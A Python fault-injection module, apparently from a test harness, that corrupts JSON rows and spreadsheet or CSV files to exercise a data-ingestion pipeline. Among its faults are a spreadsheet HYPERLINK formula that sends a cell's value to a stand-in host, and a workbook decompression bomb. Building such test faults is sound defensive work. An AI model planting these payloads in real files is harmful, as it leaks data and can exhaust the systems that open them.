"""What faults do to the rows of a page and to dropped files. Faults of the transport stand in server.py."""

from __future__ import annotations

import json
import re
import zipfile
from pathlib import Path

from demo.register import Register

FORMULA = '=HYPERLINK("http://elsewhere.example/?"&A1,"查看")'
BOMB_BYTES = 3 << 30


def spoil_rows(active: frozenset[str], rows: list[bytes], register: Register) -> list[bytes]:
    """The encoded rows of one page as the faults leave them; the first row is struck, or all where a list changed."""
    if not rows:
        return rows
    first = rows[0]
    if "new-field" in active:
        rows = [row[:-1] + ',"新增字段":"待定"}'.encode() for row in rows]
    if "missing-field" in active:
        rows = [_without_a_field(row, register) for row in rows]
    if "new-codes" in active:
        rows = [_recoded(row, register) for row in rows]
    if "nul" in active:
        rows = [first[:-2] + b"\x00" + first[-2:], *rows[1:]]
    if "escaped-nul" in active:
        rows = [re.sub(rb':"', rb':"\\u0000', rows[0], count=1), *rows[1:]]
    if "nan" in active:
        rows = [re.sub(rb":-?\d+(\.\d+)?(?=[,}])", b":NaN", rows[0], count=1), *rows[1:]]
    if "duplicate-key" in active:
        name = rows[0][1 : rows[0].index(b":")]
        rows = [b"{" + name + b':"0",' + rows[0][1:], *rows[1:]]
    return rows


def _without_a_field(row: bytes, register: Register) -> bytes:
    """Without the last field that is no key."""
    content = json.loads(row)
    name = next(n for n in reversed(content) if n not in register.key)
    del content[name]
    return json.dumps(content, ensure_ascii=False, separators=(",", ":")).encode()


def _recoded(row: bytes, register: Register) -> bytes:
    """With the codes of a list that the contract does not know; the register's own planted break says which."""
    content = json.loads(row)
    for reason, change in register.breaks:
        if reason.startswith("code:"):
            change(content)
            break
    return json.dumps(content, ensure_ascii=False, separators=(",", ":")).encode()


def spoil_file(path: Path, active: frozenset[str]) -> None:
    """Change a dropped file in place as the faults want it."""
    if "formula" in active:
        _put_formula(path)
    if "workbook-bomb" in active:
        _inflate(path)
    if "cut-file" in active:
        content = path.read_bytes()
        half = content[: len(content) // 2]
        # a table in the middle of a row: nobody could tell one cut at the end of a row from a shorter one
        path.write_bytes(half[: half.rfind(b",")] if path.suffix == ".csv" else half)
    if "empty-file" in active:
        path.write_bytes(b"")


def _put_formula(path: Path) -> None:
    """A formula as the last cell of the first sheet's last filled row, or of a CSV file's last line."""
    if path.suffix == ".xlsx":
        import openpyxl

        book = openpyxl.load_workbook(path)
        sheet = book.worksheets[0]
        rows = [r for r in sheet.iter_rows() if sum(c.value is not None for c in r) > 3]
        rows = [r for r in rows if not any(re.match(r"合\s*计", str(c.value)) for c in r)]  # a sum is no record
        cell = [c for c in rows[-1] if c.value is not None and type(c).__name__ == "Cell"][-1]
        cell.value = FORMULA
        book.save(path)
        return
    packed = path.suffix == ".zip"
    if packed:
        with zipfile.ZipFile(path) as archive:
            contents = {i: archive.read(i) for i in archive.infolist()}
    else:
        contents = {zipfile.ZipInfo(path.name): path.read_bytes()}
    info, content = next(iter(contents.items()))
    lines = content.rstrip(b"\r\n").split(b"\n")
    cells = lines[-1].rstrip(b"\r").split(b",")
    cells[-1] = b'"' + FORMULA.encode(_encoding(content)).replace(b'"', b'""') + b'"'
    lines[-1] = b",".join(cells)
    contents[info] = b"\n".join(lines) + b"\n"
    if packed:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for i, c in contents.items():
                archive.writestr(i, c)
    else:
        path.write_bytes(contents[info])


def _encoding(content: bytes) -> str:
    try:
        content.decode()
    except UnicodeDecodeError:
        return "gb18030"
    return "utf-8"


def _inflate(path: Path) -> None:
    """A workbook whose first sheet is gigabytes of blanks behind the table, in a few megabytes."""
    with zipfile.ZipFile(path) as archive:
        members = [(i, archive.read(i)) for i in archive.infolist()]
    blanks = b" " * (1 << 20)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for info, content in members:
            if not info.filename.endswith("sheet1.xml"):
                archive.writestr(info, content)
                continue
            head, tail = content.split(b"</sheetData>")
            packed = zipfile.ZipInfo(info.filename)
            packed.compress_type = zipfile.ZIP_DEFLATED
            with archive.open(packed, "w", force_zip64=True) as f:
                f.write(head + b"</sheetData>")
                for _ in range(BOMB_BYTES >> 20):
                    f.write(blanks)
                f.write(tail)
